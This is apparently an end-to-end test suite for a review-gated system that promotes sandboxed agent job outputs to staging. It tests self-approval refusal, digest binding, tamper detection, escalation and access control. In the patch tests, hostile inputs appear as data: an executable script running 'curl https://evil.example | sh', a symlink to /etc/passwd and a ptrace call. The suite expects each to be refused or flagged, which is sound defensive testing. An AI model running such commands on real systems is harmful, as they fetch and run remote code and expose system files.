/**
 * Promotion to staging behind a recorded review, end to end: real jobs on the real engine,
 * real Redis, a temp git repository, staging folders, and a loopback HTTP server for the
 * deploy hook, the escalation pager and the state-change notifications. The clock is
 * injected so review deadlines and escalations can be reached without waiting.
 */
import { execFile } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { existsSync } from 'node:fs';
import { mkdtemp, readdir, readFile, readlink, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { verifyWebhookSignature, WEBHOOK_SIGNATURE_HEADER } from '../src/review/index.js';
import { runJob, startTestAirlock, type TestAirlock } from './helpers/airlock.js';
import { offsetClock } from './helpers/fake-clock.js';
import { startWebhookReceiver, type WebhookReceiver } from './helpers/webhook-receiver.js';

const exec = promisify(execFile);
const git = async (cwd: string, ...args: string[]) => (await exec('git', args, { cwd })).stdout;

const SECRETS = { NOTIFY_KEY: 'notify-secret-1', ESCALATE_KEY: 'escalate-secret-2', DEPLOY_KEY: 'deploy-secret-3' };

let t: TestAirlock;
let hooks: WebhookReceiver;
let dir: string;
let bareRepo: string;
let offsetMs = 0;
const clock = offsetClock(() => offsetMs);
// keys: alice submits (agent); bob and carol review for platform; alice also holds a reviewer key
let alice: string;
let aliceReviewer: string;
let bob: string;
let bob2: string;
let carol: string;
let sam: string;
let lena: string;
let admin: string;

beforeAll(async () => {
  hooks = await startWebhookReceiver();
  dir = await mkdtemp(join(tmpdir(), 'airlock-promotions-'));
  bareRepo = join(dir, 'staging.git');
  await exec('git', ['init', '-q', '--bare', bareRepo]);
  // the staging repository has a README a patch can change
  const seed = join(dir, 'seed');
  await exec('git', ['init', '-q', seed]);
  await writeFile(join(seed, 'README.md'), 'hello\n');
  await git(seed, 'add', 'README.md');
  await exec('git', ['-c', 'user.name=seed', '-c', 'user.email=seed@localhost', 'commit', '-q', '-m', 'seed'], { cwd: seed });
  await git(seed, 'push', '-q', bareRepo, 'HEAD:refs/heads/staging');
  const policy = {
    version: 'e2e-1',
    securityGroup: 'security',
    notifications: { url: `${hooks.url}/notify`, secret: 'NOTIFY_KEY' },
    targets: {
      'two-of-n': { target: { type: 'directory', path: join(dir, 'two') }, approval: { mode: 'review', approvals: 2, groups: ['platform'] } },
      'one-of-n': {
        target: { type: 'directory', path: join(dir, 'one') },
        approval: { mode: 'review', approvals: 1, groups: ['platform'] },
        reviewTimeoutMs: 60_000,
        escalation: { afterMs: 30_000, group: 'leads', webhook: { url: `${hooks.url}/escalate`, secret: 'ESCALATE_KEY' } },
      },
      auto: { target: { type: 'directory', path: join(dir, 'auto') }, approval: { mode: 'auto' } },
      git: { target: { type: 'git', repo: bareRepo, branch: 'staging' }, approval: { mode: 'review', approvals: 1, groups: ['platform'] } },
      deploy: { target: { type: 'webhook', url: `${hooks.url}/deploy`, secret: 'DEPLOY_KEY', attempts: 3, backoffMs: 1 }, approval: { mode: 'auto' } },
      'git-auto': { target: { type: 'git', repo: bareRepo, branch: 'auto-staging' }, approval: { mode: 'auto' } },
      'release-only': { target: { type: 'directory', path: join(dir, 'release') }, approval: { mode: 'auto' }, requesters: ['release'] },
    },
    sensitivePaths: { allowRootDotfiles: ['.editorconfig'] },
  };
  await writeFile(join(dir, 'policy.json'), JSON.stringify(policy));
  t = await startTestAirlock(
    'promotions',
    {
      AIRLOCK_REVIEW_POLICY_FILE: join(dir, 'policy.json'),
      AIRLOCK_REVIEW_SWEEP_MS: '3600000', // the tests sweep themselves
      AIRLOCK_WEBHOOK_BACKOFF_MS: '1',
      ...Object.fromEntries(Object.entries(SECRETS).map(([k, v]) => [`AIRLOCK_SECRET_${k}`, v])),
    },
    { clock },
  );
  alice = (await t.key('agent', 'alice')).key;
  aliceReviewer = (await t.key('reviewer', 'alice', ['platform'])).key;
  bob = (await t.key('reviewer', 'bob', ['platform'])).key;
  bob2 = (await t.key('reviewer', 'bob', ['platform'])).key;
  carol = (await t.key('reviewer', 'carol', ['platform'])).key;
  sam = (await t.key('reviewer', 'sam', ['security'])).key;
  lena = (await t.key('reviewer', 'lena', ['leads'])).key;
  admin = (await t.key('admin', 'ops')).key;
}, 60_000);

afterAll(async () => {
  await t?.stop();
  await hooks?.close();
  if (dir) await rm(dir, { recursive: true, force: true });
});

/** A job that writes one unique artifact (unique, so its blob is this test's alone). */
async function buildJob(extra: Record<string, unknown> = {}): Promise<{ job: any; content: string }> {
  const content = `build ${randomBytes(8).toString('hex')}\n`;
  const job = await runJob(t, alice, {
    runtime: 'shell',
    command: `mkdir -p out && printf '%s' '${content.trim()}' > out/app.txt && echo built`,
    outputs: ['out/app.txt'],
    ...extra,
  });
  expect(job.status).toBe('succeeded');
  return { job, content: content.trim() };
}

async function request(jobId: string, target: string, key = alice): Promise<any> {
  const res = await t.request('POST', `/v1/jobs/${jobId}/promotions`, key, { target, note: 'ship it' });
  expect(res.status, JSON.stringify(res.body)).toBe(201);
  return res.body;
}

const decide = (id: string, key: string, decision: 'approve' | 'reject', artifactDigest: string, reason = 'reviewed the diff and the output') =>
  t.request('POST', `/v1/promotions/${id}/decisions`, key, { decision, reason, artifactDigest });

async function settled(id: string, key = admin): Promise<any> {
  await t.airlock.review!.settled();
  return (await t.request('GET', `/v1/promotions/${id}`, key)).body;
}

async function auditOf(id: string): Promise<any[]> {
  const res = await t.request('GET', `/v1/audit?target=${id}&limit=100&order=asc`, admin);
  expect(res.status, JSON.stringify(res.body)).toBe(200);
  return res.body.records;
}

describe('directory target, 2-of-N quorum', () => {
  it('binds the request, refuses self-approval and other digests, counts principals once, promotes on quorum', async () => {
    const { job, content } = await buildJob();
    const p = await request(job.id, 'two-of-n');
    expect(p).toMatchObject({
      state: 'pending_review',
      jobId: job.id,
      artifactDigest: job.artifactDigest,
      artifactKind: 'artifacts',
      profileDigest: job.profileDigest,
      policy: { version: 'e2e-1' },
      requester: { principal: 'alice' },
      requirement: { approvals: 2, groups: ['platform'], requireGroup: null },
    });
    expect(p.codeDigest).toMatch(/^[0-9a-f]{64}$/);
    expect(p.snapshot.argv.join(' ')).toContain('out/app.txt');

    // the submitting key itself, and another key of the same principal: 403
    expect((await decide(p.id, alice, 'approve', p.artifactDigest)).body.error.code).toBe('SELF_APPROVAL_FORBIDDEN');
    const self = await decide(p.id, aliceReviewer, 'approve', p.artifactDigest);
    expect(self.status).toBe(403);
    expect(self.body.error.code).toBe('SELF_APPROVAL_FORBIDDEN');
    // a digest other than the bound one: 409, and it does not count
    const wrong = await decide(p.id, bob, 'approve', 'f'.repeat(64));
    expect(wrong.status).toBe(409);
    expect(wrong.body.error).toMatchObject({ code: 'DIGEST_MISMATCH', expected: p.artifactDigest });
    // a reason is mandatory
    expect((await t.request('POST', `/v1/promotions/${p.id}/decisions`, bob, { decision: 'approve', artifactDigest: p.artifactDigest })).status).toBe(400);
    expect((await decide(p.id, bob, 'approve', p.artifactDigest, '   ')).status).toBe(400);

    const first = await decide(p.id, bob, 'approve', p.artifactDigest);
    expect(first.status).toBe(200);
    expect(first.body.decision).toEqual({ outcome: 'recorded', approvals: 1 });
    // bob again, with his other key: one principal, refused, still one approval
    const again = await decide(p.id, bob2, 'approve', p.artifactDigest);
    expect(again.status).toBe(409);
    expect(again.body.error.code).toBe('ALREADY_DECIDED');
    expect((await t.request('GET', `/v1/promotions/${p.id}`, admin)).body).toMatchObject({ state: 'pending_review', decisions: [{ principal: 'bob' }] });

    const second = await decide(p.id, carol, 'approve', p.artifactDigest);
    expect(second.body.decision).toEqual({ outcome: 'approved', approvals: 2 });
    const done = await settled(p.id);
    expect(done.state).toBe('promoted');
    expect(done.history.map((h: any) => h.to)).toEqual(['pending_review', 'approved', 'promoted']);

    // staging: a versioned folder, and `current` points at it
    const current = join(dir, 'two', 'current');
    expect(await readlink(current)).toBe(join('versions', p.id));
    expect(await readFile(join(current, 'out/app.txt'), 'utf8')).toBe(content);
    const manifest = JSON.parse(await readFile(join(current, '.airlock-promotion.json'), 'utf8'));
    expect(manifest).toMatchObject({ promotionId: p.id, jobId: job.id, artifactDigest: p.artifactDigest });
    expect(manifest.approvers.map((a: any) => a.principal)).toEqual(['bob', 'carol']);

    // the audit log: the request, each decision (refused ones too), each transition
    const records = await auditOf(p.id);
    const actions = records.map((r) => `${r.action}:${r.outcome?.result ?? r.outcome?.status}`);
    expect(actions).toContain('promotion.request:pending_review');
    expect(actions).toContain('promotion.transition:approved');
    expect(actions).toContain('promotion.transition:promoted');
    const decisions = records.filter((r) => r.action === 'review.decision');
    expect(decisions.map((r) => r.outcome.status).sort()).toEqual([200, 200, 400, 400, 403, 403, 409, 409].sort());
    expect(decisions.find((r) => r.outcome.status === 200)?.details).toMatchObject({ decision: 'approve', artifactDigest: p.artifactDigest });
    // a reviewer of the promotion reads the same trail through the promotion
    const trail = await t.request('GET', `/v1/promotions/${p.id}/audit`, bob);
    expect(trail.status).toBe(200);
    expect(trail.body.records.map((r: any) => r.action)).toEqual(expect.arrayContaining(['promotion.request', 'review.decision', 'promotion.transition']));
    expect((await t.request('GET', `/v1/promotions/${p.id}/audit`, sam)).status).toBe(404);
    const promoted = records.find((r) => r.outcome?.result === 'promoted');
    expect(promoted.details).toMatchObject({ location: join(dir, 'two', 'versions', p.id), artifactDigest: p.artifactDigest });
  });

  it('one rejection rejects; later decisions are refused', async () => {
    const { job } = await buildJob();
    const p = await request(job.id, 'two-of-n');
    expect((await decide(p.id, bob, 'approve', p.artifactDigest)).body.decision.outcome).toBe('recorded');
    const no = await decide(p.id, carol, 'reject', p.artifactDigest, 'touches the payment path without tests');
    expect(no.body.decision.outcome).toBe('rejected');
    expect(no.body.promotion.state).toBe('rejected');
    const late = await decide(p.id, sam, 'approve', p.artifactDigest);
    expect(late.status).toBe(403); // sam is not of a deciding group here
    const late2 = await t.request('POST', `/v1/promotions/${p.id}/decisions`, (await t.key('reviewer', 'dora', ['platform'])).key, {
      decision: 'approve',
      reason: 'late',
      artifactDigest: p.artifactDigest,
    });
    expect(late2.status).toBe(409);
    expect(late2.body.error.code).toBe('PROMOTION_NOT_PENDING');
    expect(existsSync(join(dir, 'two', 'versions', p.id))).toBe(false);
  });

  it('an artifact changed in the store after approval: the apply refuses, the promotion fails, nothing reaches staging', async () => {
    const { job } = await buildJob();
    const p = await request(job.id, 'two-of-n');
    await decide(p.id, bob, 'approve', p.artifactDigest);
    // someone with access to the store swaps the blob's bytes
    const sha = p.snapshot.artifacts[0].sha256 as string;
    const blob = join(t.config.dataDir, 'artifacts', sha.slice(0, 2), sha);
    const original = await readFile(blob);
    await writeFile(blob, 'tampered\n');
    await decide(p.id, carol, 'approve', p.artifactDigest);
    const failed = await settled(p.id);
    expect(failed.state).toBe('failed');
    expect(failed.failure).toMatch(/^ARTIFACT_CORRUPT/);
    expect(existsSync(join(dir, 'two', 'versions', p.id))).toBe(false);
    expect((await readdir(join(dir, 'two', 'versions'))).some((f) => f.startsWith(p.id))).toBe(false);

    // an admin may retry once the store is repaired; a reviewer may not
    expect((await t.request('POST', `/v1/promotions/${p.id}/retry`, bob, { reason: 'x' })).status).toBe(403);
    await writeFile(blob, original);
    const retried = await t.request('POST', `/v1/promotions/${p.id}/retry`, admin, { reason: 'blob restored from backup' });
    expect(retried.status).toBe(200);
    expect((await settled(p.id)).state).toBe('promoted');
  });
});

describe('concurrency', () => {
  it('two deciding approvals at once: one reaches quorum, the other finds it decided; one apply', async () => {
    const { job } = await buildJob();
    const p = await request(job.id, 'one-of-n');
    const answers = await Promise.all([decide(p.id, bob, 'approve', p.artifactDigest), decide(p.id, carol, 'approve', p.artifactDigest)]);
    expect(answers.map((a) => a.body.decision?.outcome ?? a.body.error.code).sort()).toEqual(['PROMOTION_NOT_PENDING', 'approved']);
    const done = await settled(p.id);
    expect(done.history.map((h: any) => h.to)).toEqual(['pending_review', 'approved', 'promoted']);
    expect(done.decisions).toHaveLength(1);
  });
});

describe('git target', () => {
  it('commits the artifacts on the staging branch, naming the job and the approvers', async () => {
    const { job, content } = await buildJob();
    const p = await request(job.id, 'git');
    await decide(p.id, carol, 'approve', p.artifactDigest, 'looks right');
    const done = await settled(p.id);
    expect(done.state).toBe('promoted');
    const sha = done.outcome.location as string;
    expect(await git(bareRepo, 'rev-parse', 'staging')).toBe(`${sha}\n`);
    expect(await git(bareRepo, 'show', `staging:out/app.txt`)).toBe(content);
    const message = await git(bareRepo, 'log', '-1', '--format=%an <%ae>%n%B', 'staging');
    expect(message).toContain(`promote ${job.id}`);
    expect(message).toContain(`Promotion: ${p.id}`);
    expect(message).toContain('Approved-by: carol');
    expect(message).toContain('Requested-by: alice');
  });

  it('applies the job’s patch when it has no artifacts', async () => {
    const patch = ['--- a/README.md', '+++ b/README.md', '@@ -1 +1,2 @@', ' hello', '+patched by the agent', ''].join('\n');
    const job = await runJob(t, alice, { runtime: 'shell', command: 'cat README.md', files: [{ path: 'README.md', content: 'hello\n' }], patch });
    expect(job.status).toBe('succeeded');
    expect(job.artifacts).toEqual([]);
    const p = await request(job.id, 'git');
    expect(p.artifactKind).toBe('patch');
    expect((await t.request('GET', `/v1/promotions/${p.id}/patch`, bob)).body).toBe(patch);
    await decide(p.id, bob, 'approve', p.artifactDigest);
    expect((await settled(p.id)).state).toBe('promoted');
    expect(await git(bareRepo, 'show', 'staging:README.md')).toBe('hello\npatched by the agent\n');
  });
});

describe('webhook target', () => {
  it('POSTs a signed payload with the digest and a download URL; a wrong secret is detectable', async () => {
    const { job } = await buildJob();
    const p = await request(job.id, 'deploy');
    expect(p.requirement.basis).toBe('automatic');
    const done = await settled(p.id);
    expect(done.state).toBe('promoted');
    const [call] = hooks.at('/deploy').filter((r) => r.json?.promotionId === p.id);
    expect(call).toBeDefined();
    expect(call!.json).toMatchObject({ event: 'promotion.apply', jobId: job.id, artifactDigest: p.artifactDigest });
    expect(call!.json.downloadUrl).toBe(`${t.baseUrl}/v1/promotions/${p.id}/artifacts.tar`);
    const nowS = Math.floor(clock.now() / 1000);
    const signature = call!.headers[WEBHOOK_SIGNATURE_HEADER] as string;
    expect(verifyWebhookSignature(SECRETS.DEPLOY_KEY, call!.body, signature, nowS)).toBe(true);
    expect(verifyWebhookSignature('not-the-secret', call!.body, signature, nowS)).toBe(false);
    expect(verifyWebhookSignature(SECRETS.DEPLOY_KEY, call!.body.replace(p.artifactDigest, 'f'.repeat(64)), signature, nowS)).toBe(false);
    // the download URL serves the approved tar to a key that may read promotions
    const service = (await t.key('service', 'deployer')).key;
    const tar = await fetch(call!.json.downloadUrl, { headers: { authorization: `Bearer ${service}` } });
    expect(tar.status).toBe(200);
    expect(tar.headers.get('x-artifact-digest')).toBe(p.artifactDigest);
  });

  it('a receiver that keeps failing: retried, then failed', async () => {
    hooks.plan('/deploy', [503]);
    try {
      const { job } = await buildJob();
      const before = hooks.at('/deploy').length;
      const p = await request(job.id, 'deploy');
      const done = await settled(p.id);
      expect(done.state).toBe('failed');
      expect(hooks.at('/deploy').length - before).toBe(3);
      expect(done.failure).toMatch(/PROMOTION_APPLY_FAILED/);
    } finally {
      hooks.plan('/deploy', [200]);
    }
  });

  it('two concurrent applies: exactly one promotion', async () => {
    hooks.plan('/deploy', [503]); // the automatic apply fails first, so the promotion is ours to retry
    const { job } = await buildJob();
    const p = await request(job.id, 'deploy');
    expect((await settled(p.id)).state).toBe('failed');
    hooks.plan('/deploy', [200]);
    const before = hooks.at('/deploy').filter((r) => r.json?.promotionId === p.id).length;
    // retry re-approves and starts an apply; two more race it
    await t.request('POST', `/v1/promotions/${p.id}/retry`, admin, { reason: 'receiver is back' });
    const results = await Promise.all([t.airlock.review!.applyNow(p.id), t.airlock.review!.applyNow(p.id), t.airlock.review!.applyNow(p.id)]);
    const done = await settled(p.id);
    expect(done.state).toBe('promoted');
    expect(results.filter((r) => r === 'promoted').length).toBeLessThanOrEqual(1);
    expect(hooks.at('/deploy').filter((r) => r.json?.promotionId === p.id).length - before).toBe(1);
    expect(done.history.filter((h: any) => h.to === 'promoted')).toHaveLength(1);
  });
});

describe('risk', () => {
  it('a policy_violation job is never promoted automatically and needs the security group', async () => {
    const code = 'import ctypes, os\nos.makedirs("out", exist_ok=True)\nopen("out/app.txt", "w").write("x")\nctypes.CDLL(None).ptrace(0, 0, 0, 0)\n';
    const job = await runJob(t, alice, { runtime: 'python', files: [{ path: 'main.py', content: code }], outputs: ['out/app.txt'] });
    expect(job.status).toBe('policy_violation');
    const p = await request(job.id, 'auto');
    expect(p).toMatchObject({ state: 'pending_review', risk: 'high', requirement: { approvals: 1, requireGroup: 'security', basis: 'high_risk' } });
    expect(p.findings.map((f: any) => f.kind)).toContain('policy_violation');
    const platform = await decide(p.id, bob, 'approve', p.artifactDigest);
    expect(platform.status).toBe(403);
    expect(platform.body.error.code).toBe('REVIEWER_NOT_ELIGIBLE');
    const security = await decide(p.id, sam, 'approve', p.artifactDigest, 'the violation is the test harness probing ptrace; artifacts are clean');
    expect(security.body.decision.outcome).toBe('approved');
    expect((await settled(p.id)).state).toBe('promoted');
  });

  it('a patch that changes CI configuration is high risk', async () => {
    const patch = ['--- /dev/null', '+++ b/.github/workflows/x.yml', '@@ -0,0 +1 @@', '+on: push', ''].join('\n');
    const job = await runJob(t, alice, { runtime: 'shell', command: 'true', patch });
    expect(job.status).toBe('succeeded');
    const p = await request(job.id, 'auto');
    expect(p.state).toBe('pending_review');
    expect(p.findings).toContainEqual(expect.objectContaining({ kind: 'ci_config_change', severity: 'high' }));
  });
});

// issue 10: what reaches staging is read once, by git, whichever way the patch spells it
describe('patches and paths', () => {
  const autoStagingTip = () =>
    git(bareRepo, 'rev-parse', '--verify', '-q', 'refs/heads/auto-staging').then(
      (s) => s.trim(),
      () => null,
    );

  it('a CI change in any header form git and GNU patch accept is high risk: the automatic git target commits nothing', async () => {
    const forms = ['+++ "b/.github/workflows/ci.yml"', '+++ x/.gitlab-ci.yml', '+++  b/.travis.yml'];
    for (const header of forms) {
      const patch = ['--- /dev/null', header, '@@ -0,0 +1 @@', '+on: push', ''].join('\n');
      const job = await runJob(t, alice, { runtime: 'shell', command: 'ls -A', patch });
      expect(job.status, header).toBe('succeeded');
      expect(job.findings, header).toContainEqual(expect.objectContaining({ kind: 'ci_config_change', severity: 'high' }));
      const p = await request(job.id, 'git-auto');
      expect(p, header).toMatchObject({ state: 'pending_review', risk: 'high', requirement: { requireGroup: 'security', basis: 'high_risk' } });
      await settled(p.id);
    }
    expect(await autoStagingTip()).toBeNull();
  });

  it('a patch GNU patch reads differently from git ends patch_failed before the command runs, with a high finding', async () => {
    // GNU patch patches README.md (it exists); git reads .github/workflows/ci.yml
    const patch = ['--- a/README.md', '+++ "b/.github/workflows/ci.yml"', '@@ -1 +1 @@', '-hello', '+on: push', ''].join('\n');
    const job = await runJob(t, alice, { runtime: 'shell', command: 'echo RAN', files: [{ path: 'README.md', content: 'hello\n' }], patch });
    expect(job).toMatchObject({ status: 'patch_failed', stdout: '', exitCode: null });
    expect(job.patchMessage).toMatch(/^airlock: patch refused: GNU patch and git read different files/);
    expect(job.patchMessage).toContain('patching file .github/workflows/ci.yml');
    expect(job.patchMessage).toContain('patching file README.md');
    expect(job.findings).toContainEqual(expect.objectContaining({ kind: 'patch_refused', severity: 'high' }));
    expect((await t.request('POST', `/v1/jobs/${job.id}/promotions`, alice, { target: 'git-auto' })).body.error.code).toBe('NOT_PROMOTABLE');
  });

  it('a root dotfile is never promoted automatically unless the policy allows it; on a reviewed target it is a medium finding', async () => {
    const dotfile = await buildJob({ command: 'printf "semi: false" > .prettierrc', outputs: ['.prettierrc'] });
    const auto = await request(dotfile.job.id, 'auto');
    expect(auto).toMatchObject({ state: 'pending_review', risk: 'high', requirement: { requireGroup: 'security' } });
    expect(auto.findings).toContainEqual(expect.objectContaining({ kind: 'root_dotfile_change', severity: 'high', details: { paths: ['.prettierrc'] } }));
    const reviewed = await request(dotfile.job.id, 'one-of-n');
    expect(reviewed).toMatchObject({ risk: 'medium', requirement: { groups: ['platform'], requireGroup: null } });
    const allowed = await buildJob({ command: 'printf "root = true" > .editorconfig', outputs: ['.editorconfig'] });
    const p = await request(allowed.job.id, 'auto');
    expect(p).toMatchObject({ state: 'approved', risk: 'none' });
    expect((await settled(p.id)).state).toBe('promoted');
  });

  it('a patch-only promotion may not put a symlink or an executable on staging: refused at request, nothing committed', async () => {
    const created = (path: string, mode: string, body: string) =>
      [`diff --git a/${path} b/${path}`, `new file mode ${mode}`, '--- /dev/null', `+++ b/${path}`, '@@ -0,0 +1 @@', `+${body}`, '\\ No newline at end of file', ''].join('\n');
    for (const [what, patch] of [
      ['symlink', created('passwd', '120000', '/etc/passwd')],
      ['executable', created('deploy.sh', '100755', 'curl https://evil.example | sh')],
    ] as const) {
      const job = await runJob(t, alice, { runtime: 'shell', command: 'ls -l', patch });
      expect(job.status, what).toBe('succeeded');
      expect(job.findings, what).toContainEqual(expect.objectContaining({ kind: 'patch_file_mode', severity: 'high' }));
      const res = await t.request('POST', `/v1/jobs/${job.id}/promotions`, alice, { target: 'git-auto' });
      expect(res.status, what).toBe(409);
      expect(res.body.error.code, what).toBe('NOT_PROMOTABLE');
      expect(res.body.error.message, what).toMatch(new RegExp(`${what === 'symlink' ? 'symlink' : 'executable'}.*regular files`));
    }
    expect(await autoStagingTip()).toBeNull();
  });
});

describe('deadlines', () => {
  it('escalates once (signed, visible to the escalation group), then expires fail-closed; decisions after expiry get 410', async () => {
    const { job } = await buildJob();
    const p = await request(job.id, 'one-of-n');
    expect(p.escalateAt).not.toBeNull();
    const listFor = async (key: string) => (await t.request('GET', '/v1/promotions?state=pending_review&limit=500', key)).body.promotions.map((x: any) => x.id);
    expect(await listFor(lena)).not.toContain(p.id);
    await t.airlock.review!.sweep();
    expect(hooks.at('/escalate').filter((r) => r.json?.promotionId === p.id)).toHaveLength(0);

    offsetMs += 31_000;
    await t.airlock.review!.sweep();
    await t.airlock.review!.sweep();
    await t.airlock.review!.settled();
    await waitFor(() => hooks.at('/escalate').some((r) => r.json?.promotionId === p.id));
    await t.airlock.review!.sweep();
    const escalations = hooks.at('/escalate').filter((r) => r.json?.promotionId === p.id);
    expect(escalations).toHaveLength(1);
    expect(escalations[0]!.json).toMatchObject({ event: 'promotion.escalated', group: 'leads' });
    expect(verifyWebhookSignature(SECRETS.ESCALATE_KEY, escalations[0]!.body, escalations[0]!.headers[WEBHOOK_SIGNATURE_HEADER] as string, Math.floor(clock.now() / 1000))).toBe(
      true,
    );
    expect(await listFor(lena)).toContain(p.id);
    expect((await auditOf(p.id)).filter((r) => r.action === 'promotion.escalate')).toHaveLength(1);

    offsetMs += 30_000;
    await t.airlock.review!.sweep();
    const expired = await settled(p.id);
    expect(expired.state).toBe('expired');
    const late = await decide(p.id, bob, 'approve', p.artifactDigest);
    expect(late.status).toBe(410);
    expect(late.body.error.code).toBe('PROMOTION_EXPIRED');
  });

  it('once escalated, the escalation group may decide', async () => {
    const { job } = await buildJob();
    const p = await request(job.id, 'one-of-n');
    expect((await decide(p.id, lena, 'approve', p.artifactDigest)).body.error.code).toBe('REVIEWER_NOT_ELIGIBLE');
    offsetMs += 31_000;
    await t.airlock.review!.sweep();
    const r = await decide(p.id, lena, 'approve', p.artifactDigest, 'escalated to me; checked the output');
    expect(r.body.decision.outcome).toBe('approved');
    expect((await settled(p.id)).state).toBe('promoted');
  });

  it('a decision past the deadline expires the promotion even before the sweeper ran', async () => {
    const { job } = await buildJob();
    const p = await request(job.id, 'one-of-n');
    offsetMs += 61_000;
    const late = await decide(p.id, bob, 'approve', p.artifactDigest);
    expect(late.status).toBe(410);
    expect((await settled(p.id)).state).toBe('expired');
  });
});

describe('lineage and notifications', () => {
  it('a newer request of the same lineage and target supersedes the pending one', async () => {
    const a = await buildJob({ lineage: 'pr-42' });
    const b = await buildJob({ lineage: 'pr-42' });
    const pa = await request(a.job.id, 'two-of-n');
    const pb = await request(b.job.id, 'two-of-n');
    const olderNow = await settled(pa.id);
    expect(olderNow.state).toBe('superseded');
    expect(olderNow.history.at(-1)).toMatchObject({ to: 'superseded', details: { supersededBy: pb.id } });
    expect((await decide(pa.id, bob, 'approve', pa.artifactDigest)).body.error.code).toBe('PROMOTION_NOT_PENDING');
    expect((await settled(pb.id)).state).toBe('pending_review');
  });

  it('every state change is announced by a signed webhook', async () => {
    const { job } = await buildJob();
    const p = await request(job.id, 'one-of-n');
    await decide(p.id, bob, 'approve', p.artifactDigest);
    await settled(p.id);
    await waitFor(() => hooks.at('/notify').filter((r) => r.json?.promotionId === p.id).length >= 3);
    const notes = hooks.at('/notify').filter((r) => r.json?.promotionId === p.id);
    expect(notes.map((n) => n.json.to)).toEqual(['pending_review', 'approved', 'promoted']);
    for (const n of notes) expect(verifyWebhookSignature(SECRETS.NOTIFY_KEY, n.body, n.headers[WEBHOOK_SIGNATURE_HEADER] as string, Math.floor(clock.now() / 1000))).toBe(true);
  });
});

describe('access', () => {
  it('reviewers see what their groups decide; agents see their own; others get 404', async () => {
    const { job } = await buildJob();
    const p = await request(job.id, 'two-of-n');
    expect((await t.request('GET', `/v1/promotions/${p.id}`, bob)).status).toBe(200);
    expect((await t.request('GET', `/v1/promotions/${p.id}`, alice)).status).toBe(200);
    expect((await t.request('GET', `/v1/promotions/${p.id}`, sam)).status).toBe(404);
    const mallory = (await t.key('agent', 'mallory')).key;
    expect((await t.request('GET', `/v1/promotions/${p.id}`, mallory)).status).toBe(404);
    // another agent cannot request a promotion of alice's job
    expect((await t.request('POST', `/v1/jobs/${job.id}/promotions`, mallory, { target: 'auto' })).status).toBe(404);
    expect((await t.request('POST', `/v1/jobs/${job.id}/promotions`, alice, { target: 'nowhere' })).body.error.code).toBe('TARGET_NOT_FOUND');
  });

  it('probing targets: one that does not exist and one the key may not use get the same answer, with no list; an admin sees the list', async () => {
    const { job } = await buildJob();
    const missing = await t.request('POST', `/v1/jobs/${job.id}/promotions`, alice, { target: 'nowhere' });
    const barred = await t.request('POST', `/v1/jobs/${job.id}/promotions`, alice, { target: 'release-only' });
    for (const res of [missing, barred]) {
      expect(res.status).toBe(404);
      expect(res.body.error.code).toBe('TARGET_NOT_FOUND');
      for (const name of ['two-of-n', 'git-auto', 'deploy']) expect(res.body.error.message).not.toContain(name);
    }
    expect(barred.body.error.message.replace('release-only', 'X')).toBe(missing.body.error.message.replace('nowhere', 'X'));
    // a key of a requesting group may use it; an admin hears which targets exist
    const rita = (await t.key('agent', 'rita', ['release'])).key;
    const own = await runJob(t, rita, { runtime: 'shell', command: 'mkdir -p out && echo r > out/app.txt', outputs: ['out/app.txt'] });
    expect((await request(own.id, 'release-only', rita)).state).toBe('approved');
    const asAdmin = await t.request('POST', `/v1/jobs/${job.id}/promotions`, admin, { target: 'nowhere' });
    expect(asAdmin.body.error.code).toBe('TARGET_NOT_FOUND');
    expect(asAdmin.body.error.message).toContain('two-of-n');
  });

  it('only a succeeded job with artifacts or a patch can be promoted', async () => {
    const failed = await runJob(t, alice, { runtime: 'shell', command: 'exit 3' });
    expect((await t.request('POST', `/v1/jobs/${failed.id}/promotions`, alice, { target: 'auto' })).body.error.code).toBe('NOT_PROMOTABLE');
    const empty = await runJob(t, alice, { runtime: 'shell', command: 'echo nothing to ship' });
    const res = await t.request('POST', `/v1/jobs/${empty.id}/promotions`, alice, { target: 'auto' });
    expect(res.status).toBe(409);
    expect(res.body.error.code).toBe('NOT_PROMOTABLE');
  });
});

async function waitFor(cond: () => boolean, timeoutMs = 10_000): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  while (!cond()) {
    if (Date.now() > deadline) throw new Error('condition not met in time');
    await new Promise((r) => setTimeout(r, 50));
  }
}
